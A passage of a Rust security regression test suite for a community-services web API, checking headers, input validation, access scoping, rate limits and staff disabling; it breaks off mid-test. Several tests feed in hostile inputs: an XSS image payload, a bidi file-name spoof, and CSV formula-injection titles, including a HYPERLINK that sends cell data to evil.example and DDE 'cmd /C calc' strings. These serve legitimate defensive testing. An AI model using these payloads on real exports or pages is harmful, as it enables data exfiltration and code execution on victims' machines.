//! The holes an attacker found, each kept closed by a test that failed before its fix:
//! security headers and markup-free names, control characters refused at the boundary, no
//! self-review of a merchant, budgets that pay their own residents only, code-guessing and
//! password-guessing limits that lock out the guesser rather than the victim, forwarding
//! headers believed from configured proxies only, help requests read in scope, and disabled
//! staff cut off at once. (Token-to-session binding is in `auth_tokens.rs`, the parking
//! check-in window in `parking.rs`.)

use futures_util::future::join_all;
use linli_tests::{
    expect_json, expect_problem, spawn_app, spawn_app_with, Session, TestApp, DEMO_PASSWORD,
};
use reqwest::StatusCode;
use serde_json::json;

// ---------------------------------------------------------------------------------------
// 1. Headers, and names that cannot carry control or invisible characters

#[tokio::test]
async fn every_response_carries_a_strict_content_security_policy_and_friends() {
    let app = spawn_app().await;
    for path in [
        "/dashboard",
        "/dashboard/app.js",
        "/api/v1/orgs",
        "/api/v1/nowhere",
        "/healthz",
    ] {
        let response = app.get(path, None).await;
        let header = |name: &str| {
            response
                .headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        let csp = header("content-security-policy");
        for directive in [
            "default-src 'self'",
            "script-src 'self'",
            "style-src 'self'",
            "frame-ancestors 'none'",
            "object-src 'none'",
        ] {
            assert!(csp.contains(directive), "{path}: {csp}");
        }
        assert!(
            !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"),
            "{csp}"
        );
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
    }
}

#[test]
fn the_dashboard_page_builds_no_markup_from_strings_and_has_no_inline_code() {
    let assets = linli_tests::workspace_dir().join("crates/api/assets/dashboard");
    let script = std::fs::read_to_string(assets.join("app.js")).unwrap();
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
    ] {
        assert!(!script.contains(sink), "app.js uses {sink}");
    }
    let page = std::fs::read_to_string(assets.join("index.html")).unwrap();
    assert!(
        !page.contains("style="),
        "inline style attribute in index.html"
    );
    assert!(!page.contains("<script>"), "inline script in index.html");
    assert!(!page.contains(" on"), "inline event handler in index.html");
}

#[tokio::test]
async fn names_with_control_or_invisible_characters_are_refused() {
    let app = spawn_app().await;
    let admin = app.login_staff("admin", DEMO_PASSWORD).await.access_token;
    let street_id = app.org_id("新华街道").await;
    let owner = app.login_resident("laozhang").await.access_token;
    let community_id = app.org_id("新华社区").await;
    for bad in [
        "两行\n名字",
        "右到左\u{202E}gpj.exe",
        "零宽\u{200B}空格",
        "\u{1b}[31m红",
    ] {
        let org = app
            .post(
                "/api/v1/admin/orgs",
                &json!({"kind": "community", "name": bad, "parent_id": street_id}),
                Some(&admin),
            )
            .await;
        expect_problem(org, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        let category = app
            .post(
                "/api/v1/admin/demand-categories",
                &json!({"name": bad, "sla_hours": 24}),
                Some(&admin),
            )
            .await;
        expect_problem(
            category,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        let lot = app
            .post(
                "/api/v1/admin/parking/lots",
                &json!({"name": bad, "org_id": street_id, "address": "新华街1号", "slot_count": 2,
                        "points_per_hour": 10, "billing_unit_minutes": 30, "max_booking_hours": 4,
                        "open_hours": [{"days": [1,2,3,4,5,6,7], "from": "00:00", "to": "24:00"}]}),
                Some(&admin),
            )
            .await;
        expect_problem(lot, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        let merchant = app
            .post(
                "/api/v1/merchants/applications",
                &json!({"name": bad, "category": "生活服务", "license_no": "91140200MA0TEST",
                        "address": "新华街1号", "contact_phone": "13800002222", "community_id": community_id}),
                Some(&owner),
            )
            .await;
        let problem = expect_problem(
            merchant,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        assert_eq!(problem["errors"][0]["field"], "name", "{problem}");
    }
    // Nothing was created; markup is only text and is kept as typed.
    let tree = app.org_tree().await.to_string();
    assert!(!tree.contains("名字") && !tree.contains("gpj"), "{tree}");
    let lot = app
        .post(
            "/api/v1/admin/parking/lots",
            &json!({"name": "<img src=x onerror=alert(1)>", "org_id": street_id, "address": "新华街1号",
                    "slot_count": 2, "points_per_hour": 10, "billing_unit_minutes": 30, "max_booking_hours": 4,
                    "open_hours": [{"days": [1,2,3,4,5,6,7], "from": "00:00", "to": "24:00"}]}),
            Some(&admin),
        )
        .await;
    assert_eq!(
        expect_json(lot, StatusCode::CREATED).await["name"],
        "<img src=x onerror=alert(1)>"
    );
}

// ---------------------------------------------------------------------------------------
// 2. Control characters stop at the boundary, for every kind of string input

#[tokio::test]
async fn nul_and_other_control_characters_are_refused_wherever_a_string_comes_in() {
    let app = spawn_app().await;
    let alice = app.login_resident("alice").await.access_token;
    let community_id = app.org_id("新华社区").await;
    let categories = expect_json(
        app.get("/api/v1/demand-categories", None).await,
        StatusCode::OK,
    )
    .await;
    let category_id = categories[0]["id"].as_str().unwrap().to_owned();

    // JSON fields, anonymous and authenticated: 422 naming the field.
    for (path, body, token, field) in [
        (
            "/api/v1/auth/wechat-login",
            json!({"code": "dev-\u{0}x"}),
            None,
            "code",
        ),
        (
            "/api/v1/auth/staff-login",
            json!({"username": "admin\u{0}", "password": "x"}),
            None,
            "username",
        ),
        (
            "/api/v1/auth/refresh",
            json!({"refresh_token": "\u{0}"}),
            None,
            "refresh_token",
        ),
        (
            "/api/v1/demands",
            json!({"category_id": category_id, "title": "楼道灯", "description": "坏了\u{0}",
                   "community_id": community_id, "photos": ["https://x/\u{7}.jpg"]}),
            Some(alice.as_str()),
            "description",
        ),
        (
            "/api/v1/me/phone",
            json!({"code": "dev-1380000\u{0}0000"}),
            Some(alice.as_str()),
            "code",
        ),
    ] {
        let response = app.post(path, &body, token).await;
        let problem = expect_problem(
            response,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        assert_eq!(problem["errors"][0]["field"], field, "{path}: {problem}");
    }
    // A nested field is named by its path; line breaks and tabs in free text are fine.
    let nested = app
        .post(
            "/api/v1/demands",
            &json!({"category_id": category_id, "title": "楼道灯", "description": "坏了",
                    "community_id": community_id, "location": {"lat": 40.0, "lng": 113.3, "address": "3号楼\u{0}"}}),
            Some(&alice),
        )
        .await;
    let problem = expect_problem(
        nested,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert_eq!(problem["errors"][0]["field"], "location.address");
    let fine = app
        .post(
            "/api/v1/demands",
            &json!({"category_id": category_id, "title": "楼道灯", "description": "第一行\n第二行",
                    "community_id": community_id}),
            Some(&alice),
        )
        .await;
    expect_json(fine, StatusCode::CREATED).await;
    let mine = expect_json(
        app.get("/api/v1/me/demands", Some(&alice)).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(
        mine["items"].as_array().unwrap().len(),
        1,
        "only the clean demand was filed"
    );

    // Query parameters: 422 naming the parameter; path segments: 400.
    for path in [
        "/api/v1/offers?q=%00",
        "/api/v1/offers?community_id=a%00b",
        "/api/v1/activities?kind=%1B",
        "/api/v1/partners%00?x=1",
    ] {
        let response = app.get(path, Some(&alice)).await;
        let status = response.status();
        assert!(
            status == StatusCode::UNPROCESSABLE_ENTITY || status == StatusCode::BAD_REQUEST,
            "{path}: {status}"
        );
    }
    let query = app.get("/api/v1/offers?q=%E7%90%86%00", None).await;
    let problem =
        expect_problem(query, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "q");
    for path in [
        "/api/v1/offers/%00",
        "/api/v1/demands/ab%00cd",
        "/api/v1/activities/%C2%85",
    ] {
        expect_problem(
            app.get(path, Some(&alice)).await,
            StatusCode::BAD_REQUEST,
            "invalid_path",
        )
        .await;
    }
    // The gate webhook reads its raw body itself: refused before any lookup.
    let gate = app
        .send(
            app.request(reqwest::Method::POST, "/api/v1/parking/gate-events", None)
                .header("content-type", "application/json")
                .header("x-linli-signature", "sha256=00")
                .body(r#"{"event_id":"e1","lot_id":"\u0000","plate":"晋B12345","kind":"entry","at":"2026-01-01T00:00:00Z"}"#),
        )
        .await;
    let problem = expect_problem(gate, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "lot_id");
}

// ---------------------------------------------------------------------------------------
// 4. Nobody reviews their own merchant

#[tokio::test]
async fn staff_cannot_review_a_merchant_they_applied_for_and_reviews_name_the_reviewer() {
    let app = spawn_app().await;
    let community = app.login_staff("community", DEMO_PASSWORD).await;
    let application = expect_json(
        app.post(
            "/api/v1/merchants/applications",
            &json!({"name": "自家小卖部", "category": "便利店", "license_no": "92140202MA0SELF",
                    "address": "新华街2号", "contact_phone": "13800003333",
                    "community_id": app.org_id("新华社区").await}),
            Some(&community.access_token),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let id = application["id"].as_str().unwrap();
    for action in ["approve", "reject"] {
        expect_problem(
            app.post(
                &format!("/api/v1/staff/merchants/{id}/{action}"),
                &json!({"reason": "自己审核"}),
                Some(&community.access_token),
            )
            .await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
    }
    let street = app.login_staff("street", DEMO_PASSWORD).await;
    let detail = expect_json(
        app.get(
            &format!("/api/v1/staff/merchants/{id}"),
            Some(&street.access_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(
        detail["status"], "pending",
        "the refused reviews changed nothing"
    );
    expect_json(
        app.post(
            &format!("/api/v1/staff/merchants/{id}/approve"),
            &json!({}),
            Some(&street.access_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let detail = expect_json(
        app.get(
            &format!("/api/v1/staff/merchants/{id}"),
            Some(&street.access_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let events = detail["events"].as_array().unwrap();
    let approval = events.iter().find(|e| e["action"] == "approve").unwrap();
    assert_eq!(approval["actor_id"], street.user_id.as_str());
    assert_eq!(events.len(), 2, "{events:?}");
    // Now the applicant owns it; as its staff they still cannot suspend or reinstate it.
    let community = app.login_staff("community", DEMO_PASSWORD).await;
    expect_problem(
        app.post(
            &format!("/api/v1/staff/merchants/{id}/suspend"),
            &json!({"reason": "自己停业"}),
            Some(&community.access_token),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
}

// ---------------------------------------------------------------------------------------
// 5. A budget pays its own residents

#[tokio::test]
async fn a_community_budget_pays_its_own_residents_and_not_another_streets() {
    let app = spawn_app().await;
    let staff = app
        .login_staff("community", DEMO_PASSWORD)
        .await
        .access_token;
    let before = app.budget_named(&staff, "新华社区").await;
    let outsider = app.login_neighbour("kaiyuan", "开源社区").await;
    let homeless = app.login_resident("wanderer").await;
    for who in [&outsider, &homeless] {
        let problem = expect_problem(
            app.post(
                "/api/v1/staff/points/awards",
                &json!({"user_id": who.user_id, "points": 100, "reason": "跨街道"}),
                Some(&staff),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "resident_out_of_scope",
        )
        .await;
        assert_eq!(problem["errors"][0]["field"], "user_id");
    }
    assert_eq!(
        app.budget_named(&staff, "新华社区").await,
        before,
        "nothing left the budget"
    );
    let neighbour = app.login_neighbour("xinhua", "新华社区").await;
    expect_json(
        app.post(
            "/api/v1/staff/points/awards",
            &json!({"user_id": neighbour.user_id, "points": 100, "reason": "本社区"}),
            Some(&staff),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    assert_eq!(app.budget_named(&staff, "新华社区").await, before - 100);
    app.assert_ledger_balanced().await;
}

// ---------------------------------------------------------------------------------------
// 7. Code guessing: outsiders lock out only themselves; bursts cannot slip past

async fn bogus_check(
    app: &TestApp,
    token: &str,
    merchant_id: &str,
    kind: &str,
    n: usize,
) -> StatusCode {
    app.post(
        &format!("/api/v1/merchants/{merchant_id}/redemptions/{kind}"),
        &json!({"code": format!("BOGUS{n:04}")}),
        Some(token),
    )
    .await
    .status()
}

#[tokio::test]
async fn residents_sending_bogus_codes_cannot_lock_a_merchant_out() {
    let app = spawn_app_with(|s| {
        s.merchant.verify_failures_per_staff_per_minute = 3;
        s.merchant.verify_failures_per_merchant_per_minute = 5;
    })
    .await;
    let shop = app.open_shop("laowang", 10, None, None).await;
    // Four residents, ten bogus previews each: each is stopped after its own three.
    for i in 0..4 {
        let resident = app
            .login_resident(&format!("prankster{i}"))
            .await
            .access_token;
        let mut statuses = Vec::new();
        for n in 0..10 {
            statuses.push(bogus_check(&app, &resident, &shop.merchant_id, "preview", n).await);
        }
        assert_eq!(
            statuses
                .iter()
                .filter(|s| **s == StatusCode::NOT_FOUND)
                .count(),
            3,
            "{statuses:?}"
        );
        assert_eq!(
            statuses
                .iter()
                .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
                .count(),
            7
        );
    }
    // The shop still verifies.
    let alice = app.login_resident("alice").await;
    app.give_points(&alice, 50).await;
    let reserved = expect_json(
        app.post_with_key(
            &format!("/api/v1/offers/{}/redemptions", shop.offer_id),
            &json!({}),
            &alice.access_token,
            "r-1",
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let code = expect_json(
        app.post(
            &format!(
                "/api/v1/redemptions/{}/code",
                reserved["id"].as_str().unwrap()
            ),
            &json!({}),
            Some(&alice.access_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    expect_json(
        app.post(
            &format!("/api/v1/merchants/{}/redemptions/verify", shop.merchant_id),
            &json!({"code": code["code"]}),
            Some(&shop.owner_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
}

#[tokio::test]
async fn a_burst_of_bogus_codes_gets_exactly_the_limit_through_and_successes_are_not_counted() {
    let app = spawn_app_with(|s| {
        s.merchant.verify_failures_per_staff_per_minute = 3;
        s.merchant.verify_failures_per_merchant_per_minute = 100;
    })
    .await;
    let shop = app.open_shop("laowang", 10, None, None).await;
    let alice = app.login_resident("alice").await;
    app.give_points(&alice, 100).await;
    let mut codes = Vec::new();
    for i in 0..4 {
        let reserved = expect_json(
            app.post_with_key(
                &format!("/api/v1/offers/{}/redemptions", shop.offer_id),
                &json!({}),
                &alice.access_token,
                &format!("r-{i}"),
            )
            .await,
            StatusCode::CREATED,
        )
        .await;
        let code = expect_json(
            app.post(
                &format!(
                    "/api/v1/redemptions/{}/code",
                    reserved["id"].as_str().unwrap()
                ),
                &json!({}),
                Some(&alice.access_token),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        codes.push(code["code"].as_str().unwrap().to_owned());
    }
    // Good codes between failures: two failures, four successes, then one more failure is
    // still only the third.
    let verify = |code: String| {
        let app = &app;
        let token = shop.owner_token.clone();
        let path = format!("/api/v1/merchants/{}/redemptions/verify", shop.merchant_id);
        async move {
            app.post(&path, &json!({"code": code}), Some(&token))
                .await
                .status()
        }
    };
    assert_eq!(verify("BOGUS1".into()).await, StatusCode::NOT_FOUND);
    assert_eq!(verify("BOGUS2".into()).await, StatusCode::NOT_FOUND);
    for code in codes {
        assert_eq!(verify(code).await, StatusCode::OK);
    }
    assert_eq!(verify("BOGUS3".into()).await, StatusCode::NOT_FOUND);
    assert_eq!(verify("BOGUS4".into()).await, StatusCode::TOO_MANY_REQUESTS);

    // Another staff member of a fresh window: twenty bogus codes at once, three get through.
    let other = app.open_shop("lijie", 10, None, None).await;
    let burst = join_all(
        (0..20).map(|n| bogus_check(&app, &other.owner_token, &other.merchant_id, "verify", n)),
    )
    .await;
    assert_eq!(
        burst
            .iter()
            .filter(|s| **s == StatusCode::NOT_FOUND)
            .count(),
        3,
        "{burst:?}"
    );
    assert_eq!(
        burst
            .iter()
            .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
            .count(),
        17
    );
}

// ---------------------------------------------------------------------------------------
// 8. Password guessing locks out the guesser, not the account

/// A client whose connections come from `ip` (any 127.0.0.0/8 address is this machine).
fn client_from(ip: &str) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(Some(ip.parse().unwrap()))
        .build()
        .unwrap()
}

async fn staff_login_from(app: &TestApp, client: &reqwest::Client, password: &str) -> StatusCode {
    let response = app
        .send(
            client
                .post(app.url("/api/v1/auth/staff-login"))
                .json(&json!({"username": "admin", "password": password})),
        )
        .await;
    response.status()
}

#[tokio::test]
async fn failed_staff_logins_are_counted_per_client_and_a_success_clears_them() {
    let app = spawn_app_with(|s| {
        s.rate_limit.staff_login_per_username_per_15min = 3;
        s.rate_limit.staff_login_failures_per_username_per_hour = 10;
    })
    .await;
    let attacker = client_from("127.0.0.2");
    let mut statuses = Vec::new();
    for _ in 0..5 {
        statuses.push(staff_login_from(&app, &attacker, "guess").await);
    }
    assert_eq!(
        statuses,
        [401, 401, 401, 429, 429].map(|s| StatusCode::from_u16(s).unwrap())
    );
    // The real admin, from another address, is not locked out; successes are not counted.
    let admin = client_from("127.0.0.3");
    for _ in 0..5 {
        assert_eq!(
            staff_login_from(&app, &admin, DEMO_PASSWORD).await,
            StatusCode::OK
        );
    }
    // Two slips, a success, two more slips: the success cleared the count.
    let careless = client_from("127.0.0.4");
    for password in ["typo", "typo", DEMO_PASSWORD, "typo", "typo"] {
        let expected = if password == DEMO_PASSWORD {
            StatusCode::OK
        } else {
            StatusCode::UNAUTHORIZED
        };
        assert_eq!(staff_login_from(&app, &careless, password).await, expected);
    }
    // A parallel burst from one client gets exactly three guesses.
    let burst_client = client_from("127.0.0.5");
    let burst = join_all((0..12).map(|_| staff_login_from(&app, &burst_client, "guess"))).await;
    assert_eq!(
        burst
            .iter()
            .filter(|s| **s == StatusCode::UNAUTHORIZED)
            .count(),
        3,
        "{burst:?}"
    );
    // 3 + 4 + 3 = 10 failures on `admin` this hour from all clients: the slower ceiling now
    // holds every client, and other accounts are untouched.
    let fresh = client_from("127.0.0.6");
    assert_eq!(
        staff_login_from(&app, &fresh, "guess").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    let response = app
        .send(
            fresh
                .post(app.url("/api/v1/auth/staff-login"))
                .json(&json!({"username": "street", "password": DEMO_PASSWORD})),
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
}

// ---------------------------------------------------------------------------------------
// 9. Forwarding headers: only X-Forwarded-For, only from a configured proxy

async fn resident_login(app: &TestApp, name: &str, header: (&str, String)) -> StatusCode {
    app.send(
        app.request(reqwest::Method::POST, "/api/v1/auth/wechat-login", None)
            .header(header.0, header.1)
            .json(&json!({"code": format!("dev-{name}")})),
    )
    .await
    .status()
}

#[tokio::test]
async fn a_client_sent_forwarded_header_does_not_change_its_address() {
    let app = spawn_app_with(|s| {
        s.server.trust_forwarded_for = true;
        s.server.trusted_proxies = "127.0.0.1".to_owned();
        s.rate_limit.login_per_ip_per_minute = 2;
    })
    .await;
    // `Forwarded` (and X-Real-IP) are ignored: every request counts against 127.0.0.1.
    let mut statuses = Vec::new();
    for i in 0..3 {
        statuses.push(
            resident_login(
                &app,
                &format!("f{i}"),
                ("forwarded", format!("for=198.51.100.{i}")),
            )
            .await,
        );
    }
    statuses.push(resident_login(&app, "f9", ("x-real-ip", "198.51.100.9".into())).await);
    assert_eq!(
        statuses,
        [200, 200, 429, 429].map(|s| StatusCode::from_u16(s).unwrap())
    );
    // From the trusted proxy, X-Forwarded-For names the client (its last hop).
    assert_eq!(
        resident_login(
            &app,
            "x1",
            ("x-forwarded-for", "203.0.113.7, 198.51.100.50".into())
        )
        .await,
        StatusCode::OK
    );
    assert_eq!(
        resident_login(&app, "x2", ("x-forwarded-for", "198.51.100.50".into())).await,
        StatusCode::OK
    );
    assert_eq!(
        resident_login(&app, "x3", ("x-forwarded-for", "198.51.100.50".into())).await,
        StatusCode::TOO_MANY_REQUESTS
    );
}

#[tokio::test]
async fn x_forwarded_for_from_a_peer_that_is_not_a_configured_proxy_is_ignored() {
    let app = spawn_app_with(|s| {
        s.server.trust_forwarded_for = true;
        s.server.trusted_proxies = "10.0.0.0/8".to_owned();
        s.rate_limit.login_per_ip_per_minute = 2;
    })
    .await;
    let mut statuses = Vec::new();
    for i in 0..3 {
        statuses.push(
            resident_login(
                &app,
                &format!("p{i}"),
                ("x-forwarded-for", format!("198.51.100.{i}")),
            )
            .await,
        );
    }
    assert_eq!(
        statuses,
        [200, 200, 429].map(|s| StatusCode::from_u16(s).unwrap())
    );
}

// ---------------------------------------------------------------------------------------
// 10. Help requests are read in scope

#[tokio::test]
async fn help_requests_are_read_by_their_parties_neighbours_and_staff_in_scope_only() {
    let app = spawn_app().await;
    let alice = app.login_neighbour("alice", "新华社区").await;
    let bob = app.login_neighbour("bob", "新华社区").await;
    let dave = app.login_neighbour("dave", "新华社区").await;
    let carol = app.login_neighbour("carol", "开源社区").await;
    linli_tests::issue_time_credits(&app.state.db, &alice.user_id, 120).await;
    let created = expect_json(
        app.post(
            "/api/v1/help-requests",
            &json!({"title": "陪诊", "description": "周三上午去医院", "service_type": "escort",
                    "minutes": 60, "community_id": app.org_id("新华社区").await}),
            Some(&alice.access_token),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let id = created["id"].as_str().unwrap().to_owned();
    let detail = |who: &Session| {
        let app = &app;
        let token = who.access_token.clone();
        let path = format!("/api/v1/help-requests/{id}");
        async move { app.get(&path, Some(&token)).await }
    };
    let listed = |who: &Session| {
        let app = &app;
        let token = who.access_token.clone();
        let id = id.clone();
        async move {
            let page = expect_json(
                app.get("/api/v1/help-requests", Some(&token)).await,
                StatusCode::OK,
            )
            .await;
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .find(|r| r["id"] == id.as_str())
                .cloned()
        }
    };
    // The requester and community staff see everything.
    let own = expect_json(detail(&alice).await, StatusCode::OK).await;
    assert_eq!(own["requester_id"], alice.user_id.as_str());
    let staff = app.login_staff("community", DEMO_PASSWORD).await;
    assert_eq!(
        expect_json(detail(&staff).await, StatusCode::OK).await["requester_id"],
        alice.user_id.as_str()
    );
    // A neighbour sees the open request, without who asked.
    let seen = expect_json(detail(&bob).await, StatusCode::OK).await;
    assert!(seen.get("requester_id").is_none(), "{seen}");
    assert_eq!(seen["title"], "陪诊");
    assert!(listed(&bob)
        .await
        .is_some_and(|r| r.get("requester_id").is_none()));
    // Another street's resident and staff: not found, not listed.
    expect_problem(detail(&carol).await, StatusCode::NOT_FOUND, "not_found").await;
    assert!(listed(&carol).await.is_none());
    let kaiyuan_staff = kaiyuan_street_staff(&app).await;
    expect_problem(
        detail(&kaiyuan_staff).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    assert!(listed(&kaiyuan_staff).await.is_none());
    // Once bob has accepted, it is between alice and bob (and staff); dave no longer sees it.
    expect_json(
        app.post(
            &format!("/api/v1/help-requests/{id}/accept"),
            &json!({}),
            Some(&bob.access_token),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    expect_problem(detail(&dave).await, StatusCode::NOT_FOUND, "not_found").await;
    assert!(listed(&dave).await.is_none());
    assert_eq!(
        expect_json(detail(&bob).await, StatusCode::OK).await["requester_id"],
        alice.user_id.as_str()
    );
    assert!(listed(&alice).await.is_some());
}

/// Street staff of 开源街道, created by the district admin.
async fn kaiyuan_street_staff(app: &TestApp) -> Session {
    let admin = app.login_staff("admin", DEMO_PASSWORD).await.access_token;
    expect_json(
        app.post(
            "/api/v1/admin/staff",
            &json!({"username": "kaiyuan.street", "password": "kaiyuan-pass-1", "role": "street_staff",
                    "org_id": app.org_id("开源街道").await}),
            Some(&admin),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    app.login_staff("kaiyuan.street", "kaiyuan-pass-1").await
}

// ---------------------------------------------------------------------------------------
// 13. Disabled staff stop at once

#[tokio::test]
async fn a_disabled_staff_member_loses_every_session_at_once_and_can_be_enabled_again() {
    let app = spawn_app().await;
    let street = app.login_staff("street", DEMO_PASSWORD).await.access_token;
    let created = expect_json(
        app.post(
            "/api/v1/admin/staff",
            &json!({"username": "wang.li", "password": "wangli-pass-1", "role": "community_staff",
                    "org_id": app.org_id("新华社区").await}),
            Some(&street),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let wang_id = created["id"].as_str().unwrap().to_owned();
    let first = app.login_staff("wang.li", "wangli-pass-1").await;
    let second = app.login_staff("wang.li", "wangli-pass-1").await;
    expect_json(
        app.get("/api/v1/staff/demands", Some(&first.access_token))
            .await,
        StatusCode::OK,
    )
    .await;

    // A community's staff cannot disable their street's staff (not found), nor themselves.
    let community = app.login_staff("community", DEMO_PASSWORD).await;
    let street_id = app.login_staff("street", DEMO_PASSWORD).await.user_id;
    expect_problem(
        app.post(
            &format!("/api/v1/admin/staff/{street_id}/disable"),
            &json!({}),
            Some(&community.access_token),
        )
        .await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    expect_problem(
        app.post(
            &format!("/api/v1/admin/staff/{}/disable", community.user_id),
            &json!({}),
            Some(&community.access_token),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    // A resident cannot disable anyone.
    let resident = app.login_resident("alice").await;
    expect_problem(
        app.post(
            &format!("/api/v1/admin/staff/{wang_id}/disable"),
            &json!({}),
            Some(&resident.access_token),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;

    let disabled = app
        .post(
            &format!("/api/v1/admin/staff/{wang_id}/disable"),
            &json!({}),
            Some(&street),
        )
        .await;
    assert_eq!(disabled.status(), StatusCode::NO_CONTENT);
    for session in [&first, &second] {
        let response = app.get("/api/v1/me", Some(&session.access_token)).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        let refreshed = app
            .post(
                "/api/v1/auth/refresh",
                &json!({"refresh_token": session.refresh_token}),
                None,
            )
            .await;
        assert_eq!(refreshed.status(), StatusCode::UNAUTHORIZED);
    }
    let login = app
        .post(
            "/api/v1/auth/staff-login",
            &json!({"username": "wang.li", "password": "wangli-pass-1"}),
            None,
        )
        .await;
    expect_problem(login, StatusCode::UNAUTHORIZED, "invalid_credentials").await;
    let audit = platform::audit::of_subject(&app.state.db, "staff", &wang_id)
        .await
        .unwrap();
    assert_eq!(
        audit.iter().map(|a| a.action.as_str()).collect::<Vec<_>>(),
        ["staff_disabled"]
    );

    let enabled = app
        .post(
            &format!("/api/v1/admin/staff/{wang_id}/enable"),
            &json!({}),
            Some(&street),
        )
        .await;
    assert_eq!(enabled.status(), StatusCode::NO_CONTENT);
    let again = app.login_staff("wang.li", "wangli-pass-1").await;
    expect_json(
        app.get("/api/v1/me", Some(&again.access_token)).await,
        StatusCode::OK,
    )
    .await;
    // The old sessions stay ended.
    assert_eq!(
        app.get("/api/v1/me", Some(&first.access_token))
            .await
            .status(),
        StatusCode::UNAUTHORIZED
    );
}

/// A token minted before the disable, whose session was somehow not revoked (say the revoke
/// of one session failed half-way), is still refused: the account itself is checked.
#[tokio::test]
async fn a_disabled_account_is_refused_even_with_a_live_session() {
    use sea_orm::ConnectionTrait;
    let app = spawn_app().await;
    let community = app.login_staff("community", DEMO_PASSWORD).await;
    let backend = app.state.db.get_database_backend();
    app.state
        .db
        .execute(sea_orm::Statement::from_sql_and_values(
            backend,
            "UPDATE staff_accounts SET disabled_at = $1 WHERE user_id = $2",
            [chrono::Utc::now().into(), community.user_id.clone().into()],
        ))
        .await
        .unwrap();
    let me = app.get("/api/v1/me", Some(&community.access_token)).await;
    expect_problem(me, StatusCode::UNAUTHORIZED, "account_disabled").await;
    let refreshed = app
        .post(
            "/api/v1/auth/refresh",
            &json!({"refresh_token": community.refresh_token}),
            None,
        )
        .await;
    expect_problem(refreshed, StatusCode::UNAUTHORIZED, "account_disabled").await;
}

// ---------------------------------------------------------------------------------------
// 12. CSV cells a spreadsheet would run as formulas

#[tokio::test]
async fn demand_titles_that_look_like_formulas_reach_the_csv_export_as_text() {
    let app = spawn_app().await;
    let alice = app.login_resident("alice").await.access_token;
    let categories = expect_json(
        app.get("/api/v1/demand-categories", None).await,
        StatusCode::OK,
    )
    .await;
    let community_id = app.org_id("新华社区").await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看详情\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for title in hostile {
        expect_json(
            app.post(
                "/api/v1/demands",
                &json!({"category_id": categories[0]["id"], "title": title, "description": "公式",
                        "community_id": community_id}),
                Some(&alice),
            )
            .await,
            StatusCode::CREATED,
        )
        .await;
    }
    let staff = app
        .login_staff("community", DEMO_PASSWORD)
        .await
        .access_token;
    let csv = app
        .get("/api/v1/staff/exports/demands.csv", Some(&staff))
        .await
        .text()
        .await
        .unwrap();
    for line in csv.lines().skip(1) {
        // The title is the second field; no field of any row may start a formula.
        for field in line.split(',') {
            let bare = field.trim_start_matches('"');
            assert!(
                !bare.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula reaches Excel: {line}"
            );
        }
    }
    for title in hostile {
        let quoted = format!("\"'{}\"", title.replace('"', "\"\""));
        assert!(csv.contains(&quoted), "{title} not neutralised in:\n{csv}");
    }
}

// ---------------------------------------------------------------------------------------
// 14. Logs carry no codes, tokens, secrets or phone numbers

/// A server process in live WeChat mode against a local stand-in, logging at `debug`, driven
/// through a login, a phone binding, a WeChat failure whose error text holds the request URL
/// (with the app secret and the resident's `js_code`), staff logins and a merchant invite:
/// none of the secrets appears in any line it logged.
#[tokio::test]
async fn a_whole_scripted_run_leaves_no_secret_in_the_logs() {
    use wiremock::matchers::{method, path, query_param};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    const APP_SECRET: &str = "app-secret-7f3a9c2e51";
    const WECHAT_TOKEN: &str = "WECHAT-ACCESS-TOKEN-5e1d";
    const PHONE: &str = "13912345678";
    let wechat = MockServer::start().await;
    for (code, openid) in [
        ("login-code-owner-91ab", "o-owner"),
